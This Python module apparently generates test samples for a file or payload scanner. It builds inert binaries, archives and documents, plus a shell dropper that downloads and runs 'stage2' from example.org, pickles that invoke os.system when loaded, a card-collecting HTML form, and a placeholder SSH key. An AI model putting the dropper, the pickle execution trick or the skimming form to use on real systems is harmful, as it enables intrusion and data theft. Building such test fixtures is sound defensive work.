"""What is hidden: small programs, archives, pickles, scripts, whole and valid. None is run."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import pickle
import random
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable

SCRIPT = (
    b"#!/bin/sh\nset -e\ncd /tmp\ncurl -s http://example.org/stage2 -o s2\nchmod +x s2\n./s2 &\n"
)
PYTHON = (
    b"import os\nimport socket\nimport subprocess\n\n\ndef main():\n"
    b"    host = socket.gethostname()\n    subprocess.run(['uname', '-a'])\n    os.system('id')\n"
    b"\n\nif __name__ == '__main__':\n    main()\n"
)
SECRETS = (
    b"user = deploy\npassword = hunter2-but-longer\n-----BEGIN OPENSSH PRIVATE KEY-----\n"
    b"b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n"
    b"QyNTUxOQAAACDl4Q9yYH0e2Sx4O8GqkTnsVx2uGqAKy0cPfHcqC0aTNwAAAJgW3jxZFt48\n"
    b"-----END OPENSSH PRIVATE KEY-----\n"
)
PAGE = (
    b'<!DOCTYPE html>\n<html><head><title>Invoice</title></head><body onload="run()">'
    b'<form action="http://example.org/collect"><input name=card></form></body></html>\n'
)


def elf() -> bytes:
    """Return a 64-bit ELF program whose code leaves at once: header, one segment, code."""
    code = bytes.fromhex("b83c00000031ff0f05")  # mov eax, 60; xor edi, edi; syscall
    header = b"\x7fELF\x02\x01\x01" + bytes(9)
    header += struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x400078, 64, 0, 0, 64, 56, 1, 64, 0, 0)
    size = 120 + len(code)
    return header + struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, size, size, 4096) + code


def pe() -> bytes:
    """Return a Windows program's headers: DOS header and stub, PE, one section."""
    dos = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0\xb8" + bytes(43) + struct.pack("<I", 0x80)
    stub = b"\x0e\x1f\xba\x0e\0\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21This program cannot be run."
    coff = b"PE\0\0" + struct.pack("<HHIIIHH", 0x8664, 1, 0, 0, 0, 240, 0x22)
    optional = struct.pack("<HBBIIIII", 0x20B, 14, 0, 512, 0, 0, 0x1000, 0x1000).ljust(240, b"\0")
    return (dos + stub).ljust(0x80, b"\0") + coff + optional + b".text\0\0\0".ljust(40, b"\0")


def macho() -> bytes:
    """Return a Mach-O program for ARM64: header and one load command."""
    segment = struct.pack("<II16sQQQQIIII", 0x19, 72, b"__TEXT", 1 << 32, 4096, 0, 4096, 5, 5, 0, 0)
    return struct.pack("<IiiIIIII", 0xFEEDFACF, 0x0100000C, 0, 2, 1, 72, 0, 0) + segment + bytes(64)


def wasm() -> bytes:
    """Return a WebAssembly module: one function that does nothing."""
    sections = (b"\x01\x04\x01\x60\0\0", b"\x03\x02\x01\0", b"\x0a\x04\x01\x02\0\x0b")
    return b"\0asm\x01\0\0\0" + b"".join(sections) + b"\0\x10\x04name\x02\x09\x01\0\x01\0\0\0\0\0\0"


def zipped(method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Return a zip archive of two files."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as file:
        for name, text in (("run.sh", SCRIPT), ("main.py", PYTHON)):
            file.writestr(zipfile.ZipInfo(name, (2024, 5, 17, 10, 20, 30)), text, method)
    return out.getvalue()


def seven_zip() -> bytes:
    """Return a 7z archive's headers, with the checksum that the format asks for."""
    packed = random.Random(7).randbytes(160)
    start = struct.pack("<QQI", len(packed), 32, zlib.crc32(bytes(32)))
    return b"7z\xbc\xaf\x27\x1c\0\x04" + struct.pack("<I", zlib.crc32(start)) + start + packed


def pickled(protocol: int) -> bytes:
    """Return a pickle that would call os.system if it were loaded."""
    import os

    class Call:
        def __reduce__(self) -> tuple[Callable[[str], int], tuple[str]]:
            return os.system, ("echo this would run, and then it would do something else",)

    return pickle.dumps({"state": Call(), "epoch": 3}, protocol)


def pdf() -> bytes:
    """Return a small PDF document."""
    parts = [b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"]
    for number, text in ((1, b"<< /Type /Catalog /Pages 2 0 R >>"), (2, b"<< /Type /Pages >>")):
        parts.append(b"%d 0 obj\n%s\nendobj\n" % (number, text))
    return b"".join([*parts, b"trailer\n<< /Root 1 0 R >>\nstartxref\n0\n%%EOF\n"])


def tar() -> bytes:
    """Return a tar archive of one file."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as file:
        member = tarfile.TarInfo("run.sh")
        member.size = len(SCRIPT)
        file.addfile(member, io.BytesIO(SCRIPT))
    return out.getvalue()[:1024]


PAYLOADS: dict[str, Callable[[], bytes]] = {
    "elf": elf,
    "pe": pe,
    "macho": macho,
    "wasm": wasm,
    "zip": zipped,
    "zip stored": lambda: zipped(zipfile.ZIP_STORED),
    "gzip": lambda: gzip.compress(PYTHON, mtime=1_700_000_000),
    "xz": lambda: lzma.compress(PYTHON),
    "bzip2": lambda: bz2.compress(PYTHON),
    "7z": seven_zip,
    "pickle 0": lambda: pickled(0),
    "pickle 2": lambda: pickled(2),
    "pickle 4": lambda: pickled(4),
    "script": lambda: SCRIPT,
    "python": lambda: PYTHON,
    "secrets": lambda: SECRETS,
    "pdf": pdf,
    "html": lambda: PAGE,
    "tar": tar,
}
"""Makers of payloads, by name."""

BINARY = tuple(name for name in PAYLOADS if name not in ("script", "python", "secrets", "html"))
"""Those that are no text."""
